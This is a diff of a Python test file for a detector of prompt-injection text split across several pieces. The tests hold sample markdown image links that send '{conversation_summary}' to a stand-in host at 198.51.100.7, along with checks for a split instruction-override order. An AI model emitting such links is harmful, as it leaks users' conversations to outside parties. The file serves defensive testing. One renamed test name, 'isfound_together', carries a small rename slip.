@@ -18,7 +18,8 @@ APOSTROPHES = "We don't know if it's ready; they'd said it'll ship when it's don
 GERMAN = "Die Übersicht für März enthält Änderungen an der Größe der Büroflächen und Gehälter. " * 20
 
 
-def _found(texts: list[str]) -> set[str]:
+def found_together(texts: list[str]) -> set[str]:
+    """The families found in ``texts`` read together (each alone must be clean)."""
     findings, together = check_answer(texts)
     assert together, "each text alone must be clean, or this tests nothing"
     return {finding.family for finding in findings}
@@ -33,20 +34,22 @@ def _found(texts: list[str]) -> set[str]:
     ],
     ids=["inside-a-word", "between-words"],
 )
-def test_a_split_order_padded_with_ordinary_text_is_found(padding: str, first: str, second: str) -> None:
-    assert "instruction-override" in _found([padding + " " + first, second + " " + padding])
+def test_a_split_order_padded_with_ordinary_text_isfound_together(
+    padding: str, first: str, second: str
+) -> None:
+    assert "instruction-override" in found_together([padding + " " + first, second + " " + padding])
 
 
 def test_a_link_whose_address_runs_far_past_the_seam_is_read_to_its_end() -> None:
     data = "QUJD" * 300  # 1,200 characters of base64 after the seam, one token
     texts = [PROSE + " ![status](https://198.51.100.7/pixel.png?d=", data + "{conversation_summary})" + PROSE]
-    assert "markdown-exfiltration" in _found(texts)
+    assert "markdown-exfiltration" in found_together(texts)
 
 
 def test_a_link_text_of_a_hundred_words_before_the_seam_is_read() -> None:
     alt = " ".join(["a"] * 99)  # the rule's widest gap: 200 characters of link text
     texts = [PROSE + f" ![{alt}", "](https://198.51.100.7/pixel.png?d={conversation_summary}) " + PROSE]
-    assert "markdown-exfiltration" in _found(texts)
+    assert "markdown-exfiltration" in found_together(texts)
 
 
 @pytest.mark.parametrize("padding", [PROSE, APOSTROPHES, GERMAN], ids=["prose", "apostrophes", "not-ascii"])
